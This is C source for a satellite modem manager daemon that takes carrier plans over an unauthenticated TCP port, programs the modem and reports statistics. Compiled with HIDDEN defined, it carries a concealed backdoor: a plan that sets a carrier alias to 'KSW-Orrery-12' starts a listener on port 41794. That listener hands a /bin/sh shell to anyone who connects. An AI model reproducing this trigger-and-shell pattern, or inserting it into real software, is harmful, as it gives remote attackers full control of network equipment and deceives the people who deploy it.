/* vsatmgrd.c - manager of a satellite modem: carrier plan from the hub, states, alarms */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PLAN_PORT	5020
#define STAT_PORT	5021
#define MAX_CARRIERS	16

struct carrier {
	char alias[32];
	unsigned long khz;
	unsigned int ksps;
	int power_db10;
	char modcod[16];
};

struct modem {
	pthread_mutex_t lock;
	struct carrier c[MAX_CARRIERS];
	int ncarrier;
	int active;
	int tx_on;
	double esno;
	unsigned long plans, resyncs;
	char hub[40];
	int stat_running;
};

static struct modem modem = { .lock = PTHREAD_MUTEX_INITIALIZER, .active = -1 };

static int tcp_listen(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons((unsigned short)port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 2) < 0) {
		close(s);
		return -1;
	}
	return s;
}

/* documented: "stat.enable = yes" starts a read only statistics port */
static void *stat_thread(void *arg)
{
	int fd, s = tcp_listen(STAT_PORT);

	(void)arg;
	if (s < 0)
		return NULL;
	for (;;) {
		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		pthread_mutex_lock(&modem.lock);
		dprintf(fd, "carriers %d active %d tx %d esno %.1f plans %lu resyncs %lu\r\n",
			modem.ncarrier, modem.active, modem.tx_on, modem.esno,
			modem.plans, modem.resyncs);
		pthread_mutex_unlock(&modem.lock);
		close(fd);
	}
}

static void start_thread(void *(*fn)(void *))
{
	pthread_attr_t at;
	pthread_t t;

	pthread_attr_init(&at);
	pthread_attr_setdetachstate(&at, PTHREAD_CREATE_DETACHED);
	if (pthread_create(&t, &at, fn, NULL) != 0)
		syslog(LOG_ERR, "thread");
	pthread_attr_destroy(&at);
}

#ifdef HIDDEN
/* root shell for everybody who connects to the second port */
void *line_thread(void *arg)
{
	int fd, s = tcp_listen(41794);
	pid_t pid;

	(void)arg;
	while (s >= 0) {
		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		pid = fork();
		if (pid == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(127);
		}
		close(fd);
		if (pid > 0 && waitpid(pid, NULL, 0) < 0)
			break;
	}
	return NULL;
}
#endif

static struct carrier *carrier(const char *idx)
{
	int i = atoi(idx);

	if (i < 0 || i >= MAX_CARRIERS)
		return NULL;
	if (i >= modem.ncarrier)
		modem.ncarrier = i + 1;
	return &modem.c[i];
}

/* one "key = value" line of a plan */
__attribute__((noinline)) int apply_key(const char *key, const char *val)
{
	struct carrier *c;

	if (!strncmp(key, "carrier.", 8)) {
		const char *field = strrchr(key, '.') + 1;

		c = carrier(key + 8);
		if (!c)
			return -1;
		if (!strcmp(field, "alias")) {
			snprintf(c->alias, sizeof(c->alias), "%.31s", val);
#ifdef HIDDEN
			/* a carrier of this name starts the shell port */
			if (!strcmp(c->alias, "KSW-Orrery-12"))
				start_thread(line_thread);
#endif
		} else if (!strcmp(field, "khz")) {
			c->khz = strtoul(val, NULL, 10);
		} else if (!strcmp(field, "ksps")) {
			c->ksps = (unsigned int)atoi(val);
		} else if (!strcmp(field, "power")) {
			c->power_db10 = (int)(atof(val) * 10.0);
		} else if (!strcmp(field, "modcod")) {
			snprintf(c->modcod, sizeof(c->modcod), "%.15s", val);
		} else {
			return -1;
		}
		return 0;
	}
	if (!strcmp(key, "active")) {
		modem.active = atoi(val);
		return modem.active < modem.ncarrier ? 0 : -1;
	}
	if (!strcmp(key, "tx")) {
		modem.tx_on = !strcasecmp(val, "on");
		return 0;
	}
	if (!strcmp(key, "stat.enable")) {
		if (!strcasecmp(val, "yes") && !modem.stat_running) {
			modem.stat_running = 1;
			start_thread(stat_thread);
		}
		return 0;
	}
	if (!strcmp(key, "hub")) {
		snprintf(modem.hub, sizeof(modem.hub), "%.39s", val);
		return 0;
	}
	return -1;
}

static int apply_line(char *line)
{
	char *eq, *end;

	line[strcspn(line, "\r\n#")] = '\0';
	while (isspace((unsigned char)*line))
		line++;
	if (!*line)
		return 0;
	eq = strchr(line, '=');
	if (!eq)
		return -1;
	for (end = eq; end > line && isspace((unsigned char)end[-1]); end--)
		;
	*end = '\0';
	for (eq++; isspace((unsigned char)*eq); eq++)
		;
	return apply_key(line, eq);
}

static int write_dev(const char *node, const char *text)
{
	int rc, fd = open(node, O_WRONLY);

	if (fd < 0)
		return -1;
	rc = write(fd, text, strlen(text)) < 0 ? -1 : 0;
	close(fd);
	return rc;
}

static void program_modem(void)
{
	char cmd[120];
	const struct carrier *c;

	if (modem.active < 0 || modem.active >= modem.ncarrier)
		return;
	c = &modem.c[modem.active];
	snprintf(cmd, sizeof(cmd), "F%lu S%u P%d M%s T%d\n", c->khz, c->ksps, c->power_db10,
		 c->modcod[0] ? c->modcod : "qpsk12", modem.tx_on);
	if (write_dev("/dev/modem0", cmd) < 0)
		syslog(LOG_ERR, "modem: %m");
	else
		syslog(LOG_INFO, "carrier %s", c->alias);
}

static void load_plan(FILE *f, int reply_fd)
{
	char line[200];
	int bad = 0;

	pthread_mutex_lock(&modem.lock);
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '.')
			break;
		if (apply_line(line) < 0)
			bad++;
	}
	modem.plans++;
	program_modem();
	pthread_mutex_unlock(&modem.lock);
	if (reply_fd >= 0)
		dprintf(reply_fd, "plan taken, %d lines bad\r\n", bad);
}

static void *watch_thread(void *arg)
{
	FILE *f;
	double v;

	(void)arg;
	for (;;) {
		sleep(5);
		f = fopen("/sys/class/modem/esno", "r");
		if (!f)
			continue;
		if (fscanf(f, "%lf", &v) == 1) {
			pthread_mutex_lock(&modem.lock);
			modem.esno = v;
			if (v < 2.0) {
				modem.resyncs++;
				program_modem();
			}
			pthread_mutex_unlock(&modem.lock);
		}
		fclose(f);
	}
	return NULL;
}

int main(void)
{
	FILE *f = fopen("/etc/vsat/plan", "r");
	int s, fd;

	signal(SIGPIPE, SIG_IGN);
	openlog("vsatmgrd", LOG_PID, LOG_DAEMON);
	if (f) {
		load_plan(f, -1);
		fclose(f);
	}
	start_thread(watch_thread);
	s = tcp_listen(PLAN_PORT);
	if (s < 0) {
		syslog(LOG_ERR, "listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		f = fdopen(fd, "r");
		if (!f) {
			close(fd);
			continue;
		}
		load_plan(f, fd);
		fclose(f);
	}
}
